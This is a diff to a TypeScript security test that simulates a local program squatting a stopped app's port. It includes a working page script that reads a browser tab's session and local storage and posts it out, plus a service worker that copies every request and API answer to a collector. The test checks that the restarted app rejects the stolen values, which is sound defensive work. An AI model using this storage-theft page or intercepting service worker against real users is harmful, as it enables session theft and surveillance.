@@ -1,12 +1,13 @@
 // Issue 12 item 6, the squat-and-release attack, built for real: `relay ui` stops while two
 // pages are open in chromium; another local program takes its port, listens to everything the
-// pages send while they look for the server (and serves its own page to the one that reloads,
-// which reads that tab's storage), then lets the port go; `relay ui` starts again on the same
-// port and data folder. The page that stayed open gets back in by itself; nothing the squatter
-// heard or read works against the restarted server, and no resume key ever reached it.
-import { readFileSync } from 'node:fs';
-import { createServer, type IncomingHttpHeaders } from 'node:http';
-import path from 'node:path';
+// pages send while they look for the server, and serves its own page to the tab that reloads:
+// that page reads the tab's storage and registers a service worker meant to sit between the user
+// and the next server at that address. Then it lets the port go and `relay ui` starts again.
+// Nothing the squatter heard or read works against the new run; the new run is at another
+// address, so its service worker never sees a request; the open page never sent its secret
+// again and never took the squatter for Relay Desk.
+import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { RelayApi } from '../../src/shared/api.js';
 import { launchBrowser, type TestBrowser } from '../e2e/support/browser.js';
@@ -16,7 +17,7 @@ import { tempDir } from '../helpers/temp.js';
 import { httpRequest, refusalCode, sessionProtocols, startRelayUi, type RelayUiProcess } from '../helpers/ui.js';
 
 declare const window: { relay: RelayApi };
-declare const document: { querySelector(selector: string): unknown };
+declare const document: { querySelector(selector: string): unknown; title: string };
 
 const PATH = process.env.PATH ?? '/usr/bin:/bin';
 const TOKEN = /[A-Za-z0-9_-]{43}/g;
@@ -29,47 +30,73 @@ interface Heard {
   readonly body: string;
 }
 
-/** The page the squatter serves to a tab that reloads: it sends that tab's storage home. */
+/** The page the squatter serves to a tab that reloads: it sends that tab's storage home and installs a service worker. */
 const LOOTING_PAGE = `<!doctype html><title>squatter</title><script>
   const loot = { session: {}, local: {} };
   for (let i = 0; i < sessionStorage.length; i += 1) loot.session[sessionStorage.key(i)] = sessionStorage.getItem(sessionStorage.key(i));
   for (let i = 0; i < localStorage.length; i += 1) loot.local[localStorage.key(i)] = localStorage.getItem(localStorage.key(i));
-  fetch('/loot', { method: 'POST', body: JSON.stringify(loot) }).then(() => { document.title = 'looted'; });
+  fetch('/loot', { method: 'POST', body: JSON.stringify(loot) })
+    .then(() => navigator.serviceWorker.register('/sw.js', { scope: '/' }))
+    .then(() => navigator.serviceWorker.ready)
+    .then(() => { document.title = 'looted'; }, (error) => { document.title = 'failed: ' + error; });
 </script>`;
 
+/** The service worker: it would report every request of this origin (and every answer to the session endpoints) to the collector. */
+function serviceWorker(collector: string): string {
+  return `self.addEventListener('install', () => self.skipWaiting());
+self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
+self.addEventListener('fetch', (event) => {
+  const report = (what) => fetch(${JSON.stringify(collector)}, { method: 'POST', mode: 'no-cors', body: JSON.stringify(what) }).catch(() => undefined);
+  event.respondWith((async () => {
+    const request = event.request.clone();
+    const body = request.method === 'POST' ? await request.text() : '';
+    const response = await fetch(event.request);
+    const answer = event.request.url.includes('/api/') ? await response.clone().text() : '';
+    report({ url: event.request.url, body, answer });
+    return response;
+  })());
+});`;
+}
+
+async function listen(server: Server, port: number): Promise<void> {
+  await new Promise<void>((resolve, reject) => {
+    server.once('error', reject);
+    server.listen(port, '127.0.0.1', () => resolve());
+  });
+}
+
+async function close(server: Server): Promise<void> {
+  server.closeAllConnections();
+  await new Promise<void>((resolve) => server.close(() => resolve()));
+}
+
 /** Takes `port` on 127.0.0.1 and records everything; answers what a naive server would. */
-async function squat(port: number): Promise<{ heard: Heard[]; release(): Promise<void> }> {
+async function squat(port: number, collector: string): Promise<{ heard: Heard[]; release(): Promise<void> }> {
   const heard: Heard[] = [];
   const server = createServer((request, response) => {
     let body = '';
     request.on('data', (chunk: Buffer) => (body += chunk.toString('utf8')));
     request.on('end', () => {
       heard.push({ method: request.method ?? '', url: request.url ?? '', headers: request.headers, body });
-      if (request.method === 'GET') {
+      if (request.url === '/sw.js') {
+        response.writeHead(200, { 'Content-Type': 'text/javascript', 'Cache-Control': 'no-store' });
+        response.end(serviceWorker(collector));
+      } else if (request.method === 'GET') {
         response.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8', 'Cache-Control': 'no-store' });
         response.end(LOOTING_PAGE);
-        return;
+      } else {
+        // "Yes, I know you": whatever a page asks, in the shapes it expects.
+        response.writeHead(200, { 'Content-Type': 'application/json' });
+        response.end(JSON.stringify({ proof: 'P'.repeat(43), session: 'S'.repeat(43) }));
       }
-      // "Yes, I know you": whatever a page asks, in the shapes it expects.
-      response.writeHead(200, { 'Content-Type': 'application/json' });
-      response.end(JSON.stringify({ serverNonce: 'N'.repeat(43), proof: 'P'.repeat(43), resume: { id: 'I'.repeat(43), key: 'K'.repeat(43) }, session: 'S'.repeat(43) }));
     });
   });
   server.on('upgrade', (request, socket) => {
     heard.push({ method: 'UPGRADE', url: request.url ?? '', headers: request.headers, body: '' });
     socket.destroy();
   });
-  await new Promise<void>((resolve, reject) => {
-    server.once('error', reject);
-    server.listen(port, '127.0.0.1', () => resolve());
-  });
-  return {
-    heard,
-    release: async () => {
-      server.closeAllConnections();
-      await new Promise<void>((resolve) => server.close(() => resolve()));
-    },
-  };
+  await listen(server, port);
+  return { heard, release: () => close(server) };
 }
 
 describe('relay ui: a program that takes the port while it is down, then lets it go', () => {
@@ -85,7 +112,20 @@ describe('relay ui: a program that takes the port while it is down, then lets it
     for (const ui of running) if (ui.child.exitCode === null) await ui.stop();
   });
 
-  it('hears and reads nothing that works after the restart, and the page that stayed open gets back in by itself', async () => {
+  it('hears and plants nothing that works against the next run, and the open page never takes it for Relay Desk', async () => {
+    // Where the squatter's service worker would report (it stays up after the squatter lets the port go).
+    const reports: string[] = [];
+    const collector = createServer((request, response) => {
+      let body = '';
+      request.on('data', (chunk: Buffer) => (body += chunk.toString('utf8')));
+      request.on('end', () => {
+        reports.push(body);
+        response.end();
+      });
+    });
+    await listen(collector, 0);
+    const collectorUrl = `http://127.0.0.1:${(collector.address() as AddressInfo).port}/report`;
+
     const dataDir = tempDir('relay-squat-data-');
     const env = { PATH, HOME: tempDir('relay-squat-home-') };
     const first = await startRelayUi({ args: ['--data-dir', dataDir], env, cwd: tempDir() });
@@ -96,72 +136,63 @@ describe('relay ui: a program that takes the port while it is down, then lets it
     const reloading = await browser.newPage();
     await reloading.goto(await first.newLink());
     await reloading.waitForFunction(() => document.querySelector('nav[aria-label="Relay Desk"]') !== null);
-    // Every resume key the server handed out so far: none may ever reach the squatter.
-    const keysFile = path.join(dataDir, 'ui-sessions.json');
-    const keys = (): string[] => (JSON.parse(readFileSync(keysFile, 'utf8')) as { resumeKeys: Array<{ key: string }> }).resumeKeys.map((k) => k.key);
-    const keysBefore = keys();
-    expect(keysBefore.length).toBeGreaterThanOrEqual(2);
+    const stayingSession = (await staying.evaluate(() => (globalThis as unknown as { sessionStorage: { getItem(k: string): string | null } }).sessionStorage.getItem('relay-desk.session')))!;
+    expect(stayingSession).toMatch(/^[A-Za-z0-9_-]{43}$/);
 
     expect((await first.stop()).exitCode).toBe(0);
-    const squatter = await squat(first.port);
+    const squatter = await squat(first.port, collectorUrl);
     try {
       // The open page looks for its server and finds the squatter; the other tab reloads onto it.
       await until('the open page to knock', () => (squatter.heard.some((h) => h.url === '/api/session/hello') ? true : undefined), 30_000);
       await reloading.reload();
-      await reloading.waitForFunction(() => (document as unknown as { title: string }).title === 'looted', undefined, { timeout: 20_000 });
-      // Give the open page time for a few more attempts against the squatter.
+      // 'looted' is set once the worker is registered and active at the old address: the attack is real.
+      await reloading.waitForFunction(() => document.title === 'looted', undefined, { timeout: 20_000 });
       await until('more knocks', () => (squatter.heard.filter((h) => h.url === '/api/session/hello').length >= 2 ? true : undefined), 30_000);
+      // The open page does not take the squatter for Relay Desk: it says so, and connects to nothing there.
+      await staying.getByRole('alert').filter({ hasText: 'Relay Desk does not know this page any more' }).waitFor({ state: 'visible', timeout: 20_000 });
     } finally {
       await squatter.release();
     }
 
-    // What the open page sent: hellos carrying a key's public id and a nonce; never a session, never a key.
+    // What the open page sent: hellos naming its session by its public id and a nonce; never the secret, never a socket.
     const fromStayingPage = squatter.heard.filter((h) => h.url.startsWith('/api/') || h.method === 'UPGRADE');
-    expect(fromStayingPage.length).toBeGreaterThan(0);
-    expect(fromStayingPage.every((h) => h.url === '/api/session/hello')).toBe(true);
-    expect(fromStayingPage.some((h) => h.headers.authorization !== undefined)).toBe(false);
+    expect(fromStayingPage.length).toBeGreaterThanOrEqual(2);
+    expect(fromStayingPage.every((h) => h.url === '/api/session/hello' && h.method === 'POST')).toBe(true);
+    const everything = squatter.heard.map((h) => `${JSON.stringify(h.headers)} ${h.body}`).join('\n');
+    expect(everything).not.toContain(stayingSession);
     const loot = JSON.parse(squatter.heard.find((h) => h.url === '/loot')!.body) as { session: Record<string, string> };
     const stolenSession = loot.session['relay-desk.session'];
     expect(stolenSession).toMatch(/^[A-Za-z0-9_-]{43}$/);
-    const everything = squatter.heard.map((h) => `${JSON.stringify(h.headers)} ${h.body}`).join('\n');
-    for (const key of keysBefore) expect(everything).not.toContain(key);
 
-    // relay ui again, on the same port and data folder.
+    // relay ui again: a new address, so nothing the squatter left at the old one stands in its way.
     const second = await startRelayUi({ args: ['--data-dir', dataDir], env, cwd: tempDir() });
     running.push(second);
-    expect(second.port).toBe(first.port);
+    expect(second.port).not.toBe(first.port);
 
-    // Everything the squatter heard or read, replayed the ways the server accepts credentials.
+    // Everything the squatter heard or read, replayed against the new run: no secret and no session id is known there.
     const candidates = new Set([...everything.matchAll(TOKEN)].map((match) => match[0]));
     candidates.add(stolenSession!);
-    const helloBodies = squatter.heard.filter((h) => h.url === '/api/session/hello').map((h) => JSON.parse(h.body) as { resumeId: string; pageNonce: string });
+    expect(candidates.size).toBeGreaterThanOrEqual(3);
     for (const secret of candidates) {
-      const check = await httpRequest(second.port, { path: '/api/session/check', method: 'POST', headers: { origin: second.origin, authorization: `Bearer ${secret}` } });
-      expect([check.status, refusalCode(check)]).toEqual([401, 'SESSION_UNKNOWN']);
       await expect(openSocket(`ws://127.0.0.1:${second.port}/ws`, { origin: second.origin, protocols: sessionProtocols(secret) }).opened).rejects.toMatchObject({ status: 401, code: 'SESSION_UNKNOWN' });
-    }
-    for (const { resumeId } of helloBodies) {
-      // The server proves itself to anyone who names a live key (that gives nothing away)...
-      const hello = await httpRequest(second.port, { path: '/api/session/hello', method: 'POST', headers: { origin: second.origin, 'content-type': 'application/json' }, body: JSON.stringify({ resumeId, pageNonce: 'A'.repeat(43) }) });
-      if (hello.status !== 200) {
-        expect([hello.status, refusalCode(hello)]).toEqual([401, 'RESUME_UNKNOWN']);
-        continue;
-      }
-      // ...but only the page can answer: every value the squatter has, offered as the proof, is refused.
-      const { serverNonce } = JSON.parse(hello.body) as { serverNonce: string };
-      for (const proof of [...candidates].slice(0, 20)) {
-        const again = await httpRequest(second.port, { path: '/api/session/hello', method: 'POST', headers: { origin: second.origin, 'content-type': 'application/json' }, body: JSON.stringify({ resumeId, pageNonce: 'A'.repeat(43) }) });
-        const nonce = again.status === 200 ? (JSON.parse(again.body) as { serverNonce: string }).serverNonce : serverNonce;
-        const resumed = await httpRequest(second.port, { path: '/api/session/resume', method: 'POST', headers: { origin: second.origin, 'content-type': 'application/json' }, body: JSON.stringify({ serverNonce: nonce, proof }) });
-        expect(resumed.status).toBe(401);
-        expect(['RESUME_REFUSED', 'RESUME_UNKNOWN']).toContain(refusalCode(resumed));
-      }
+      const hello = await httpRequest(second.port, { path: '/api/session/hello', method: 'POST', headers: { origin: second.origin, 'content-type': 'application/json' }, body: JSON.stringify({ sessionId: secret, pageNonce: 'A'.repeat(43) }) });
+      expect([hello.status, refusalCode(hello)]).toEqual([401, 'SESSION_UNKNOWN']);
     }
 
-    // The page that stayed open proves itself to the restarted server and carries on.
-    await staying.getByRole('alert').filter({ hasText: 'Relay Desk' }).waitFor({ state: 'detached', timeout: 30_000 });
+    // The tab with the squatter's service worker opens the new run's link: it works, and the worker sees none of it.
+    const reportsBefore = reports.length;
+    await reloading.goto(second.link);
+    await reloading.waitForFunction(() => document.querySelector('nav[aria-label="Relay Desk"]') !== null);
+    expect(await reloading.evaluate(() => window.relay.listProjects({}))).toEqual({ ok: true, value: [] });
+    await reloading.waitForTimeout(500);
+    expect(reports.slice(reportsBefore).filter((report) => report.includes(`:${second.port}`))).toEqual([]);
+
+    // The open page stays on its old address, saying what to open; the new run's link works there too.
+    await staying.goto(await second.newLink());
+    await staying.waitForFunction(() => document.querySelector('nav[aria-label="Relay Desk"]') !== null);
     expect(await staying.evaluate(() => window.relay.listProjects({}))).toEqual({ ok: true, value: [] });
     await staying.close();
     await reloading.close();
+    await close(collector);
   }, 120_000);
 });
